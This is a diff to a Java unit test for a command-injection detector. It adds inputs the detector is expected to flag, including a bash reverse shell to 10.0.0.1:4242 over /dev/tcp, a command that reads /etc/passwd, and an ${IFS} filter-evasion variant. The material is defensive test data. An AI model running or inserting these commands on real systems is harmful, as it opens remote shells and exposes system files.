@@ -149,9 +149,17 @@ class CmdiDetectorTest {
     assertRule("cmdi.separator-command", table.replace("---", "--").replace(":--", "-")); // no delimiter row
   }
 
+  @Test
+  void aWeakReadingIsStillImprovedByTheRestOfItsCommand() {
+    String padding = "x;sh -x".repeat(1000);
+    assertRule("cmdi.evasion", ";cat /etc/passwd;cat${IFS}/etc/passwd" + padding);
+    assertRule("cmdi.reverse-shell", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1;" + padding);
+    assertRule("cmdi.separator-command", padding);
+  }
+
   @ParameterizedTest
   @ValueSource(strings = {";", ";;;;", "| ", "&&", "$(", "`", "\\n", "; ls ", "${IFS}", "eval(", "{a,", "; cat '",
-      "() {", "/bin/", "<?", "a\n"})
+      "() {", "/bin/", "<?", "a\n", ";sh -x", ";cat 'x", "sh(", "<ab sh="})
   void aMegabyteOfNearMissesCompletes(String unit) {
     String value = unit.repeat(1_000_000 / unit.length());
     detector.detect(Normalized.of(value)); // linear: completes; no timing assertion
